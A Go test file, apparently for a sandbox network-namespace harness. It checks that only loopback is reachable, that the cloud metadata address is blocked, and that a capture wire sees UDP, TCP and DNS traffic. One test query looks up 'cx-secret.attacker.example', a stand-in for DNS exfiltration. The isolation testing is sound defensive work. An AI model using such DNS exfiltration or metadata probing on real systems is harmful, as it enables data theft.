package netns

import (
	"context"
	"net"
	"strings"
	"testing"
	"time"
)

func TestMain(m *testing.M) { Main(m) }

func TestOnlyLoopback(t *testing.T) {
	if err := checkProc(); err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatalf("loopback must work: %v", err)
	}
	ln.Close()
	// The metadata address must be unreachable: no route at all.
	c, err := net.DialTimeout("tcp", "169.254.169.254:80", 2*time.Second)
	if err == nil {
		c.Close()
		t.Fatal("reached 169.254.169.254 from the private namespace")
	}
}

func TestWireSeesEverything(t *testing.T) {
	w := StartWire(t)
	if err := checkOnly("lo", WireHostIf); err != nil {
		t.Fatal(err)
	}
	mark := w.Mark()
	// A datagram to a listener, one to an address only the default route
	// knows, a TCP connection and a DNS query.
	c, err := net.Dial("udp4", WirePeerAddr.String()+":8801")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("cx-udp-payload"))
	c.Close()
	c, err = net.Dial("udp4", "192.0.2.7:9")
	if err != nil {
		t.Fatal(err)
	}
	c.Write([]byte("cx-routed-payload"))
	c.Close()
	tc, err := net.DialTimeout("tcp4", WirePeerAddr.String()+":8802", 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	tc.Write([]byte("cx-tcp-payload"))
	tc.Close()
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, address string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp4", WirePeerAddr.String()+":53")
	}}
	addrs, err := r.LookupHost(context.Background(), "cx-secret.attacker.example")
	if err != nil || len(addrs) == 0 || addrs[0] != WirePeerAddr.String() {
		t.Errorf("DNS answer %v, %v", addrs, err)
	}
	want := map[string]bool{"udp cx-udp-payload": false, "packet cx-routed-payload": false, "tcp cx-tcp-payload": false, "dns A cx-secret.attacker.example.": false}
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		for _, e := range w.Since(mark) {
			for k := range want {
				kind, data, _ := strings.Cut(k, " ")
				if e.Kind == kind && strings.Contains(string(e.Data), data) {
					want[k] = true
				}
			}
		}
		all := true
		for _, v := range want {
			all = all && v
		}
		if all {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("not seen: %v; events: %v", want, w.Since(mark))
}
